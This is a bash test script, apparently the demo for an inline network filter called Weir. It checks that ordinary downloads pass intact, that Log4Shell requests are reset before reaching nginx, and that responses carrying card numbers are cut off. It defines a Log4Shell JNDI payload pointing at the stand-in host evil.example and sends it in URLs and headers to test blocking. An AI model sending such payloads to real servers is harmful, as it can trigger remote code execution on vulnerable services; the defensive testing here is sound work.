@@ -1,0 +1,213 @@
+# shellcheck shell=bash
+# The job on a wire: curl -- weir -- nginx, each in a network namespace of its own.
+# Sourced by run.sh.
+
+# Published test numbers, which pass the checksum of card numbers; and one that differs in its last digit.
+card=4111111111111111 other_card=5555555555554444 no_card=4111111111111112
+# shellcheck disable=SC2016 # The braces are for Log4j to expand.
+attack='${jndi:ldap://evil.example/a}'
+# Bytes of a TCP segment that IPv4, its timestamps and an MTU of 1500 leave for data.
+segment_bytes=1448
+download_pid=''
+
+demo_inline() {
+    lab_up "weir-demo-$$"
+    lab_mount_bpffs
+    site_up "$dir/site"
+    engine_write_config "$dir/demo.toml" "$dir/eve.json"
+    make_pages
+    section "Without Weir: a bridge between curl and nginx"
+    without_weir
+    section "With Weir between them"
+    if ! start_engine "$dir/engine.log"; then
+        [[ $engine_exit -eq 77 ]] || { cat "$dir/engine.log"; exit 1; }
+        warn "$(tail -n1 "$dir/engine.log")"
+        return
+    fi
+    section "What means no harm passes, byte for byte"
+    benign
+    section "An attack: Log4Shell"
+    attacks
+    section "A leak: card numbers in a response"
+    leak
+    section "What Weir says of it"
+    engine_end TERM
+    verdicts
+    counters
+    section "The engine is killed in mid-download"
+    kill_test
+    engine_end TERM
+    check "weir detach succeeds" engine_detach
+    check_not "nothing is attached any more" lab_has_xdp
+}
+
+make_pages() {
+    local pages=$dir/site/pages
+    text_of 8000 >"$pages/index.html"
+    head -c 50000000 /dev/urandom >"$pages/download.bin"
+    page_with 120000 "$no_card" "$no_card" >"$pages/invoice.txt"
+}
+
+# Prints $1 bytes of text in which no rule finds anything.
+text_of() {
+    local line='Nothing in this line needs to be kept back by anyone.' bytes=$1
+    awk -v line="$line" -v bytes="$bytes" 'BEGIN {
+        for (; bytes > length(line); bytes -= length(line) + 1) print line
+        printf "%s", substr(line, 1, bytes)
+    }'
+}
+
+# page_with OFFSET NUMBER...: prints a page of text in which the first number stands at that offset.
+page_with() {
+    text_of "$(($1 - 1))"
+    shift
+    printf "\n%s" "$@"
+    echo
+    text_of 20000
+}
+
+without_weir() {
+    fetch "$dir/got" "http://$server_v4/?x=$attack"
+    check "the Log4Shell request reaches nginx" site_logged jndi
+    # Where the first number has to stand so that a segment ends in its middle.
+    fetch "$dir/got" "http://$server_v4/invoice.txt"
+    local header=$curl_header_bytes
+    card_offset=$((120000 + segment_bytes - (120000 + header + 8) % segment_bytes))
+    page_with "$card_offset" "$card" "$other_card" >"$dir/site/pages/cards.txt"
+    fetch "$dir/got" "http://$server_v4/cards.txt"
+    check "the page with card numbers arrives in full" cmp -s "$dir/got" "$dir/site/pages/cards.txt"
+    : >"$dir/site/access.log"
+}
+
+start_engine() {
+    engine_up "$dir/demo.toml" "$1" || return
+    ok "weir run is ready, with a pinned program on both ports"
+    check "the program is attached" lab_has_xdp
+    check "checksum offload is on at both ends: Weir completes what the kernel leaves partial" offload_is_on
+}
+
+offload_is_on() {
+    in_ns client ethtool -k to-server | grep -q '^tx-checksumming: on' &&
+        in_ns server ethtool -k to-client | grep -q '^tx-checksumming: on'
+}
+
+benign() {
+    local host
+    for host in "$server_v4" "[$server_v6]"; do
+        arrives "$host" index.html
+        arrives "$host" download.bin
+        arrives "$host" invoice.txt
+    done
+}
+
+# arrives HOST PAGE: the page arrives as it is, by its SHA-256.
+arrives() {
+    local sent got
+    sent=$(sha256 "$dir/site/pages/$2")
+    fetch "$dir/got" "http://$1/$2"
+    got=$(sha256 "$dir/got")
+    check_equal "$2 from $1: $(stat -c %s "$dir/got") bytes in $curl_seconds s, sha256 ${got:0:12}…" "$got" "$sent"
+}
+
+attacks() {
+    fetch "$dir/got" "http://$server_v4/?before"
+    local requests
+    check "nginx saw the request before" site_logged '?before'
+    requests=$(wc -l <"$dir/site/access.log")
+    is_reset "in the URL" "http://$server_v4/?x=$attack"
+    is_reset "in a header" "http://$server_v4/" -A "$attack"
+    is_reset "in the URL, over IPv6" "http://[$server_v6]/?x=$attack"
+    fetch "$dir/got" "http://$server_v4/?after"
+    check "nginx saw the request after" site_logged '?after'
+    check_equal "nginx never saw one of the attacks" "$(site_saw jndi)" 0
+    check_equal "nginx saw nothing else" "$(wc -l <"$dir/site/access.log")" "$((requests + 1))"
+}
+
+# is_reset WHERE URL [ARGUMENT...]: the client is told at once, by a reset (curl's 56), rather than left waiting.
+is_reset() {
+    local where=$1
+    shift
+    fetch "$dir/got" "$@"
+    check_equal "Log4Shell $where: connection reset by peer" "$curl_exit" 56
+    check "the client knew after $curl_seconds s" awk -v took="$curl_seconds" 'BEGIN { exit !(took < 2) }'
+}
+
+leak() {
+    fetch "$dir/cards" "http://$server_v4/cards.txt"
+    check_equal "the response is cut by a reset" "$curl_exit" 56
+    local bytes digits
+    bytes=$(stat -c %s "$dir/cards" 2>/dev/null || echo 0)
+    digits=$((bytes > card_offset ? bytes - card_offset : 0))
+    check "the client holds the first $bytes bytes of the page" \
+        cmp -s -n "$bytes" "$dir/cards" "$dir/site/pages/cards.txt"
+    check "that is $digits of the 16 digits of the first number" \
+        test "$bytes" -gt 100000 -a "$digits" -lt 16
+    check_not "no card number is in the client's file" grep -qE "$card|$other_card" "$dir/cards"
+}
+
+verdicts() {
+    "$weir" verdicts "$dir/eve.json" | tee "$dir/verdicts.txt"
+    check "Log4Shell in http.uri" verdict_line log4shell http.uri
+    check "Log4Shell in http.headers" verdict_line log4shell http.headers
+    check "a card number in http.response.body" verdict_line card http.response.body
+    check_not "no card number stands there, nor in the events, unmasked" \
+        grep -qE "$card|$other_card" "$dir/verdicts.txt" "$dir/eve.json"
+}
+
+# verdict_line RULE FIELD: one row of the table names both.
+verdict_line() { grep -i -- "$1" "$dir/verdicts.txt" | grep -qF -- "$2"; }
+
+# Every frame that came in went out, or was dropped for a reason that is counted.
+counters() {
+    local stats
+    stats=$(jq -c 'select(.event_type == "stats") | .stats' "$dir/eve.json" | tail -n1)
+    jq -r '"frames in \(.frames_in) = forwarded \(.forwarded)" +
+        ([.dropped | to_entries[] | select(.value > 0) | " + \(.key) \(.value)"] | add // "") +
+        "   (and \(.injected) resets injected)"' <<<"$stats"
+    check "frames in = frames forwarded + drops by reason" \
+        jq -e '.frames_in > 0 and .frames_in == .forwarded + (.dropped | add)' <<<"$stats" >"$dir/jq"
+    check "the drops have the rules as their reason" jq -e '.dropped.rule >= 4' <<<"$stats" >"$dir/jq"
+    check "resets were injected" jq -e '.injected >= 8' <<<"$stats" >"$dir/jq"
+}
+
+# With on_engine_loss = "forward" the bridge takes over, unchecked, until an engine is back.
+kill_test() {
+    local sent
+    sent=$(sha256 "$dir/site/pages/download.bin")
+    engine_up "$dir/demo.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
+    download_start
+    engine_end KILL
+    check_equal "SIGKILL ended the engine, with the download at $(stat -c %s "$dir/download") bytes" "$engine_exit" 137
+    fetch "$dir/got" "http://$server_v4/?unchecked=$attack"
+    check "on_engine_loss = \"forward\": the bridge passes all there is, unchecked" site_logged '?unchecked'
+    check "the download completes" wait "$download_pid"
+    download_pid=
+    check_equal "its sha256 is ${sent:0:12}…" "$(sha256 "$dir/download")" "$sent"
+    check "the program is still attached" lab_has_xdp
+    engine_up "$dir/demo.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
+    ok "a new engine took the pinned program over"
+    is_reset "after the restart" "http://$server_v4/?restarted=$attack"
+    fetch "$dir/got" "http://$server_v4/?again"
+    check "nginx saw the request after it" site_logged '?again'
+    check_equal "nginx did not see the attack" "$(site_saw '?restarted')" 0
+}
+
+# Starts a download that takes some seconds, and comes back when it is well under way.
+download_start() {
+    nsenter --net="$(lab_netns client)" curl -qs --noproxy '*' --max-time 60 --limit-rate 12M \
+        -o "$dir/download" "http://$server_v4/download.bin" &
+    download_pid=$!
+    local _
+    for _ in {1..100}; do
+        [[ $(stat -c %s "$dir/download" 2>/dev/null || echo 0) -lt 5000000 ]] || return 0
+        sleep 0.1
+    done
+    fail "the download did not get under way"
+}
+
+download_end() {
+    [[ -n $download_pid ]] || return 0
+    kill "$download_pid" 2>/dev/null || true
+    wait "$download_pid" 2>/dev/null || true
+    download_pid=
+}
